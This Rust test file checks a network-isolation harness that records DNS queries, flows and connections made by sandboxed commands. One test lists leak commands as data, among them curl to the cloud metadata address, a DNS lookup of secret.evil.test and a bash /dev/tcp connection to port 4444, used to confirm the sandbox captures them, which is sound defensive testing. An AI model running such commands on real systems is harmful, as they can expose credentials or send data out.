//! The world itself: what the other suites take for granted about their ground.
//! Needs: unprivileged user namespaces or root, iproute2, nftables, util-linux, openssl, curl, dnsutils, iputils-ping.

use anyhow::{Context, Result};
use harness::order::Order;
use harness::spec::{Answers, Flow, HttpRequest, Query};
use harness::world::{As, Call, World};

fn flow(protocol: &str, address: &str, port: u16) -> Result<Flow> {
    Ok(Flow {
        protocol: protocol.to_owned(),
        address: address.parse()?,
        port,
    })
}

fn each_maker() -> Result<[World; 2]> {
    let usual = Order::usual()?;
    Ok([
        World::new(&usual)?,
        World::new(&usual.made_by_an_ordinary_user())?,
    ])
}

#[test]
fn a_client_without_a_fence_reaches_a_name_and_every_layer_sees_it() -> Result<()> {
    for world in each_maker()? {
        for who in [As::Ordinary, As::Root] {
            world.forget()?;
            let words = ["curl", "-4", "-sS", "https://ok.test/a?b=c"];
            let finished = world.run(who, Call::new(&words))?.succeeded()?;
            assert_eq!(finished.stdout, "hello from ok.test\n");
            let readings = world.readings()?;
            assert_eq!(
                readings.queries,
                [Query {
                    name: "ok.test".into(),
                    kind: "A".into()
                }]
            );
            let expected = [
                flow("tcp", "11.22.33.10", 443)?,
                flow("udp", "11.22.33.53", 53)?,
            ];
            assert_eq!(readings.flows, expected);
            let [connection] = readings.connections.as_slice() else {
                panic!("{:?}", readings.connections)
            };
            assert_eq!(connection.sni.as_deref(), Some("ok.test"));
            assert_eq!(
                (connection.address.to_string(), connection.port),
                ("11.22.33.10".to_owned(), 443)
            );
            assert!(
                connection.wire.starts_with(r"\x16\x03\x01"),
                "{}",
                connection.wire
            );
            let [HttpRequest { method, target, .. }] = connection.requests.as_slice() else {
                panic!("{:?}", connection.requests)
            };
            assert_eq!((method.as_str(), target.as_str()), ("GET", "/a?b=c"));
        }
    }
    Ok(())
}

#[test]
fn whatever_leaks_to_any_address_is_met_and_counted() -> Result<()> {
    let world = World::new(&Order::usual()?)?;
    let leaks = [
        "curl -sS http://169.254.169.254/latest/meta-data/",
        "curl -sS -g http://[2001:4860:4860::8888]/",
        "dig +tries=1 +time=2 @9.9.9.9 secret.evil.test",
        "ping -n -c 1 8.8.8.8",
        "ping -n -c 1 2001:4860:4860::8844",
        "bash -c 'echo x >/dev/udp/1.1.1.1/443'",
        "bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; echo out >&3; head -c 4 <&3'",
    ];
    for leak in leaks {
        world
            .run(As::Root, Call::new(&["sh", "-c", leak]))?
            .succeeded()?;
    }
    let readings = world.readings()?;
    let mut expected = vec![
        flow("tcp", "169.254.169.254", 80)?,
        flow("tcp", "2001:4860:4860::8888", 80)?,
        flow("udp", "9.9.9.9", 53)?,
        flow("icmp", "8.8.8.8", 0)?,
        flow("ipv6-icmp", "2001:4860:4860::8844", 0)?,
        flow("udp", "1.1.1.1", 443)?,
        flow("tcp", "203.0.113.9", 4444)?,
    ];
    expected.sort();
    assert_eq!(readings.flows, expected);
    assert_eq!(
        readings.queries,
        [Query {
            name: "secret.evil.test".into(),
            kind: "A".into()
        }]
    );
    let echo = readings
        .connections
        .iter()
        .find(|connection| connection.port == 4444)
        .context("no echo")?;
    assert_eq!(echo.wire, r"out\n");
    Ok(())
}

#[test]
fn a_name_changes_its_addresses_between_two_queries() -> Result<()> {
    let world = World::new(&Order::usual()?)?;
    world.answer(
        "ok.test",
        Answers::flipping(&[&["11.22.33.10".parse()?], &["127.0.0.1".parse()?]]),
    )?;
    let asked = [
        "sh",
        "-c",
        "dig +short ok.test; dig +short ok.test; dig +short ok.test",
    ];
    let finished = world.run(As::Ordinary, Call::new(&asked))?.succeeded()?;
    assert_eq!(finished.stdout, "11.22.33.10\n127.0.0.1\n127.0.0.1\n");
    Ok(())
}

#[test]
fn ports_of_the_host_answer_on_the_host_alone() -> Result<()> {
    let world = World::new(&Order::usual()?)?;
    let words = ["curl", "-sS", "http://127.0.0.1:9999/"];
    let finished = world.run(As::Ordinary, Call::new(&words))?.succeeded()?;
    assert_eq!(finished.stdout, "hello from 127.0.0.1:9999\n");
    let readings = world.readings()?;
    assert_eq!(readings.flows, []);
    let sides: Vec<_> = readings
        .connections
        .iter()
        .map(|connection| connection.side.as_str())
        .collect();
    assert_eq!(sides, ["host"]);
    Ok(())
}

#[test]
fn the_ordinary_user_has_an_account_a_home_and_no_privilege() -> Result<()> {
    for world in each_maker()? {
        let asked = "id -un; id -u; pwd; grep -h ^CapEff /proc/self/status; echo $HOME; touch file; stat -c %U file";
        let finished = world
            .run(As::Ordinary, Call::new(&["sh", "-c", asked]))?
            .succeeded()?;
        let expected = "alice\n61000\n/home/alice\nCapEff:\t0000000000000000\n/home/alice\nalice\n";
        assert_eq!(finished.stdout, expected);
    }
    Ok(())
}

#[test]
fn the_census_counts_what_runs_and_nothing_after_it_ended() -> Result<()> {
    let world = World::new(&Order::usual()?)?;
    let before = world.census()?;
    assert_eq!(before.processes, []);
    assert_eq!(before.interfaces, ["lo", "uplink"]);
    let running = world.start(
        As::Ordinary,
        Call::new(&["sh", "-c", "sleep 1000 & exec sleep 1001"]),
    )?;
    let sleeper = world.find(|process| process.command == "sleep 1001")?;
    let orphan = world.find(|process| process.command == "sleep 1000")?;
    world.signal(sleeper.pid, "KILL")?;
    assert_eq!(running.wait()?.code(), 137);
    let census = world.settle(|census| census.processes.len() == 1)?;
    assert_eq!(
        census.processes.first().map(|process| process.pid),
        Some(orphan.pid)
    );
    world.signal(orphan.pid, "KILL")?;
    assert_eq!(world.settle(|census| census.processes.is_empty())?, before);
    Ok(())
}
